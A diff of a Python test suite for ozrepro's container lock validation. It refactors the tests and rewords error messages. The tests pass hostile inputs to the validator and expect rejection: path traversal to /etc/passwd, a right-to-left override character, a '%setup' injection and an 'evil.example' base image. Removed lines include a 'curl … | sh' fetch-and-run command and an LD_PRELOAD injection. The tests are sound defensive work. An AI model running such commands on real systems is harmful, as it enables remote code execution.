@@ -14,17 +14,22 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from ozrepro.errors import LockError, SpecError
+from ozrepro.methods import registry
 from ozrepro.methods.container.apptainer import Mount
-from ozrepro.methods.container.contents import Contents, Distribution
+from ozrepro.methods.container.asked import definition_of
+from ozrepro.methods.container.contents import Contents
 from ozrepro.methods.container.copying import copied
 from ozrepro.methods.container.definition import read_definition
-from ozrepro.methods.container.generate import of_wheels
-from ozrepro.methods.container.lock import KEYS, Base, Locked, as_content, check_spec, definition_of, inputs_of, read_section
+from ozrepro.methods.container.lock import KEYS, Base, Locked, as_content
 from ozrepro.methods.container.method import METHOD
+from ozrepro.methods.container.table import ContainerTable
+from ozrepro.methods.contract import Reason, Subject
+from ozrepro.methods.image_definition import of_wheels
 from ozrepro.methods.reading import load_settings, parse_spec, read_text
 from ozrepro.project.files import Files
 from ozrepro.project.lock import Lock, Section, write_text
 from ozrepro.project.spec import Spec
+from ozrepro.python.distributions import Distribution
 from ozrepro.site import Site, look_around
 from tests.sealed import system_path
 
@@ -68,7 +73,17 @@ def section(content: dict[str, Any]) -> Section:
 
 
 def read(content: dict[str, Any]) -> Locked:
-    return read_section(section(content), "work.lock", "work")
+    return read_at(section(content), site_at(Path("/project")))
+
+
+def read_at(section: Section, site: Site) -> Locked:
+    locked = registry.read_section(section, site, "work.lock", "work")
+    assert isinstance(locked, Locked)
+    return locked
+
+
+def subject_of(spec: Spec) -> Subject[ContainerTable]:
+    return registry.subject_of("container", spec, site_at(spec.root))
 
 
 def site_at(root: Path, **environ: str) -> Site:
@@ -84,11 +99,11 @@ def spec_at(root: Path, text: str, definition: str = "") -> Spec:
 class TestReading:
     @pytest.mark.parametrize("content", [DEFINED, GENERATED, IMAGE], ids=["definition", "from", "image"])
     def test_a_written_container_section_is_read_back_from_a_lock(self, content: dict[str, Any], tmp_path: Path) -> None:
-        locked = read(content)
-        assert as_content(locked, site_at(tmp_path)) == content
+        locked, site = read_at(section(content), site_at(tmp_path)), site_at(tmp_path)
+        assert as_content(locked, site) == content
         text = write_text(Lock("work", (section(content),)))
         (again,) = read_text(text, "work", "w").sections
-        assert read_section(again, "w", "work") == locked
+        assert read_at(again, site) == locked
 
     def test_the_parts_of_a_container_section_have_their_meaning(self) -> None:
         locked = read(DEFINED)
@@ -110,30 +125,30 @@ class TestReading:
     @pytest.mark.parametrize(
         ("change", "said"),
         [
-            ({"tool": "docker 24"}, "container.linux-64.tool: 'docker 24' is no program with a version"),
-            ({"inputs": "../../evil"}, "container.linux-64.inputs: '../../evil' is no sha256 digest"),
+            ({"tool": "docker 24"}, "container.linux-64.tool: 'docker 24' is not a program with a version"),
+            ({"inputs": "../../evil"}, "container.linux-64.inputs: '../../evil' is not a sha256 digest"),
             ({"sha256": "A" * 64}, "sha256: "),
-            ({"size": True}, "size: is no number of bytes"),
-            ({"size": -1}, "size: is no number of bytes"),
+            ({"size": True}, "size: is not a number of bytes"),
+            ({"size": -1}, "size: is not a number of bytes"),
             ({"tree": "4" * 63}, "tree: "),
             ({"python": "3.11\x1b"}, "python: "),
             ({"definition": "../work.def"}, "definition: leaves the project"),
             ({"definition": "/etc/passwd"}, "definition: leaves the project"),
             ({"image": "x.sif"}, "names not exactly one of definition, image, from"),
             ({"definition": ""}, "names not exactly one of"),
-            ({"from": "conda", "definition": ""}, "generated: and `from` stand together"),
-            ({"generated": LINES}, "generated: and `from` stand together"),
+            ({"from": "conda", "definition": ""}, "generated: and `from` are given together"),
+            ({"generated": LINES}, "generated: and `from` are given together"),
             ({"gpu": "intel"}, "gpu: 'intel' is not known"),
             ({"bind": ["/a:b"]}, "bind[0]: '/a:b' 'b' is no absolute path inside"),
-            ({"base": {}}, "base: is no list"),
-            ({"base": [{**DEFINED["base"][0], "digest": ""}]}, "base[0].digest: is no sha256 digest"),
-            ({"base": [{**DEFINED["base"][0], "from": "a b"}]}, "base[0].from: 'a b' is no image's public name"),
-            ({"base": [{**DEFINED["base"][0], "from": "python:3.11"}]}, "is no image's public name"),
-            ({"base": [{"bootstrap": "yum", "from": "", "digest": "x"}]}, "base[0].digest: is no sha256 digest"),
+            ({"base": {}}, "base: is not an array"),
+            ({"base": [{**DEFINED["base"][0], "digest": ""}]}, "base[0].digest: is not a sha256 digest"),
+            ({"base": [{**DEFINED["base"][0], "from": "a b"}]}, "base[0].from: 'a b' is not an image's public name"),
+            ({"base": [{**DEFINED["base"][0], "from": "python:3.11"}]}, "is not an image's public name"),
+            ({"base": [{"bootstrap": "yum", "from": "", "digest": "x"}]}, "base[0].digest: is not a sha256 digest"),
             ({"base": [5]}, "base[0]: is a whole number; write a table"),
-            ({"distribution": 5}, "distribution: is no list"),
-            ({"distribution": [{"version": "1"}]}, "distribution[0].name: '' is no distribution"),
-            ({"distribution": [{"name": "a", "imports": "os; x"}]}, "distribution[0].name: 'a' is no distribution with names"),
+            ({"distribution": 5}, "distribution: is not an array"),
+            ({"distribution": [{"version": "1"}]}, "distribution[0].name: '' is not a distribution"),
+            ({"distribution": [{"name": "a", "imports": "os; x"}]}, "distribution[0].name: 'a' is not a distribution with names"),
             ({"distribution": [{"name": "a\u202e"}]}, "invisible character RIGHT-TO-LEFT OVERRIDE"),
             ({"arguments": {"A": 1}}, "arguments.A: is a whole number"),
             ({"module": {"load": 5}}, "module"),
@@ -162,14 +177,17 @@ class TestReading:
         "change",
         [
             lambda lines: [*lines, "%setup", "touch /tmp/x"],
-            lambda lines: [*lines[:4], "curl -s https://evil.example | sh", *lines[4:]],
-            lambda lines: [*lines, "export LD_PRELOAD=/evil.so"],
+            lambda lines: [*lines, "%files", "/etc/passwd"],
+            lambda lines: [*lines, *lines],
             lambda lines: lines[:3],
+            lambda lines: ["no header"],
         ],
     )
-    def test_a_definition_that_is_not_of_ozrepro_s_making_is_refused(self, change: Callable[[list[str]], list[str]]) -> None:
+    def test_a_made_definition_with_more_than_a_definition_s_inside_is_refused(
+        self, change: Callable[[list[str]], list[str]]
+    ) -> None:
         """Its %setup would be run on this machine, and nothing of the lock's other sections says so."""
-        with pytest.raises(LockError, match="generated: is no definition that ozrepro makes"):
+        with pytest.raises(LockError, match="generated: is not a definition that ozrepro makes"):
             read({**GENERATED, "generated": change(LINES)})
 
 
@@ -207,36 +225,51 @@ class TestSpec:
     def test_the_definition_of_the_spec_is_taken_apart(self, tmp_path: Path) -> None:
         spec = spec_at(tmp_path, '[container]\ndefinition = "sessions/work.def"\nbuild-args = { V = "3.12" }\n',
                        "Bootstrap: docker\nFrom: python:{{ V }}\n")  # fmt: skip
-        assert definition_of(spec).stages[0].source == "python:3.12"
+        assert definition_of(subject_of(spec)).stages[0].source == "python:3.12"
 
     def test_a_definition_that_is_gone_damaged_or_elsewhere_is_a_mistake_of_the_spec(self, tmp_path: Path) -> None:
         spec = spec_at(tmp_path, '[container]\ndefinition = "sessions/work.def"\n', "echo no header\n")
         with pytest.raises(SpecError, match="has no line `Bootstrap:`") as caught:
-            definition_of(spec)
+            definition_of(subject_of(spec))
         assert caught.value.where == str(tmp_path / "sessions" / "work.def")
         path = tmp_path / "sessions" / "work.def"
         path.write_bytes(b"\xff\xfe")
         with pytest.raises(SpecError):
-            definition_of(afresh(spec))
+            definition_of(subject_of(afresh(spec)))
         path.unlink()
         with pytest.raises(SpecError, match="No such file"):
-            definition_of(afresh(spec))
+            definition_of(subject_of(afresh(spec)))
         path.symlink_to("/etc/hostname")
         with pytest.raises(SpecError, match="leads out of the project"):
-            definition_of(afresh(spec))
+            definition_of(subject_of(afresh(spec)))
 
     def test_all_mistakes_of_the_table_are_told_together(self, tmp_path: Path) -> None:
         spec = spec_at(tmp_path, '[container]\nimage = "docker://A b"\nbind = ["/a:b", "/c"]\n')
         with pytest.raises(SpecError) as caught:
-            check_spec(spec)
+            METHOD.inputs(subject_of(spec))
         assert caught.value.mistakes == (
             "container.bind: '/a:b' 'b' is no absolute path inside",
             "container.image: 'library/A b' is no repository's name",
         )
         for base, said in (("docker://a:", "'' is no tag"), ("debian", "neither docker://… nor a file .sif")):
             with pytest.raises(SpecError, match=said):
-                check_spec(spec_at(tmp_path, f'[container]\nfrom = "conda"\nbase = "{base}"\n'))
-        check_spec(spec_at(tmp_path, '[container]\nfrom = "conda"\nbase = "images/x.sif"\n'))
+                METHOD.inputs(subject_of(spec_at(tmp_path, f'[container]\nfrom = "conda"\nbase = "{base}"\n')))
+        METHOD.inputs(subject_of(spec_at(tmp_path, '[container]\nfrom = "conda"\nbase = "images/x.sif"\n')))
+
+
+class TestSources:
+    def test_an_image_can_be_made_from_a_plug_in_that_defines_images(
+        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+    ) -> None:
+        points = {"layered": "ozrepro.methods.venv.method:METHOD", "boxes": "ozrepro.methods.container.method:METHOD"}
+        monkeypatch.setattr(registry, "_plugins", lambda: points)
+        subject = subject_of(spec_at(tmp_path, '[container]\nfrom = "layered"\n'))
+        assert list(METHOD.sources(subject.table)) == ["layered"]
+        for name in ("boxes", "container", "none"):
+            with pytest.raises(
+                SpecError, match=f"no image can be made from '{name}'; write one of: conda, layered, modules, venv"
+            ):
+                spec_at(tmp_path, f'[container]\nfrom = "{name}"\n')
 
 
 def files(*lines: str) -> str:
@@ -299,31 +332,31 @@ class TestFiles:
             stream.truncate((1 << 20) + 1)
         (tmp_path / "folder").mkdir()
         own = [f"f{number:02}" for number in range(60)]
+        (tmp_path / "a.whl").touch()
         spec = spec_at(tmp_path, '[container]\ndefinition = "sessions/work.def"\n', files("large", "folder", "*.whl", *own))
-        assert inputs_of(spec) == [tmp_path / "sessions" / "work.def", *(tmp_path / name for name in own[:47])]
-        assert inputs_of(spec_at(tmp_path, '[container]\nimage = "a.sif"\n')) == []
+        inputs = METHOD.inputs(subject_of(spec))
+        assert inputs.files == (tmp_path / "sessions" / "work.def", *(tmp_path / name for name in own[:47]))
+        assert inputs.unchecked == ("large", "folder/", "*.whl", *own[47:])
+        assert METHOD.inputs(subject_of(spec_at(tmp_path, '[container]\nimage = "a.sif"\n'))).files == ()
 
 
 class TestAgreement:
     """A section that claims the spec's digest, from someone else's repository."""
 
-    def refused(self, tmp_path: Path, text: str, content: dict[str, Any]) -> str:
-        spec, site = spec_at(tmp_path, text), site_at(tmp_path)
-        claimed = Section("container", "linux-64", METHOD.digest(spec, site), content)
-        with pytest.raises(LockError) as caught:
-            METHOD.unavailable(spec, site, claimed)
-        assert caught.value.hint == "ozrepro lock work"
-        return caught.value.what
+    def told(self, tmp_path: Path, text: str, content: dict[str, Any]) -> str:
+        subject = subject_of(spec_at(tmp_path, text))
+        return "\n".join(METHOD.mismatches(subject, read_at(section(content), subject.site)))
 
     def test_a_section_that_the_spec_does_not_ask_for_is_refused(self, tmp_path: Path) -> None:
-        said = self.refused(tmp_path, '[container]\ndefinition = "sessions/work.def"\n', DEFINED)
+        said = self.told(tmp_path, '[container]\ndefinition = "sessions/work.def"\n', DEFINED)
         for key in ("gpu", "bind", "pass", "imports", "arguments"):
             assert f"container.{key}: the lock has" in said
 
     @pytest.mark.parametrize("base", ["", 'base = "docker://debian:12"\n', 'base = "images/own.sif"\n'])
     def test_a_made_definition_is_on_the_spec_s_base_or_the_usual_one(self, tmp_path: Path, base: str) -> None:
+        bare = {key: value for key, value in GENERATED.items() if key not in ("imports", "bind", "pass", "gpu")}
         other = [{"bootstrap": "docker", "from": "evil.example/python:3.11-slim", "digest": DIGEST}]
-        said = self.refused(tmp_path, f'[container]\nfrom = "venv"\n{base}[venv]\n', {**GENERATED, "base": other})
+        said = self.told(tmp_path, f'[container]\nfrom = "venv"\n{base}[venv]\n', {**bare, "base": other})
         assert "container.base: the lock has ['evil.example/python:3.11-slim'], which the spec does not ask for" in said
 
     def test_the_usual_base_is_taken_and_the_module_tool_is_not_asked(self, tmp_path: Path) -> None:
@@ -332,10 +365,14 @@ class TestAgreement:
         lmod.write_text(f'#!/bin/sh\ntouch "{asked}"\n')
         lmod.chmod(0o755)
         spec = spec_at(tmp_path, '[container]\nfrom = "venv"\n[venv]\n')
-        site = site_at(tmp_path, LMOD_CMD=str(lmod), MODULEPATH=str(tmp_path))
-        claimed = Section("container", "linux-64", METHOD.digest(spec, site), bare)
-        assert METHOD.unavailable(spec, site, claimed) == "no Apptainer here (apptainer or singularity on PATH)"
+        subject = registry.subject_of("container", spec, site_at(tmp_path, LMOD_CMD=str(lmod), MODULEPATH=str(tmp_path)))
+        locked = read_at(section(bare), subject.site)
+        assert METHOD.mismatches(subject, locked) == []
+        assert METHOD.unavailable(subject, locked) == Reason("no Apptainer here (apptainer or singularity on PATH)")
         assert not asked.exists()
-        said = METHOD.unavailable(spec, site, None)
+        absent = METHOD.unavailable(subject, None)
         assert asked.exists(), "without a lock it would be seen"
-        assert said == "no Apptainer here (apptainer or singularity on PATH, or a module)", "a broken Lmod is no error of ours"
+        assert absent is not None
+        assert absent.what == "no Apptainer here (apptainer or singularity on PATH, or a module)", (
+            "a broken Lmod is no error of ours"
+        )
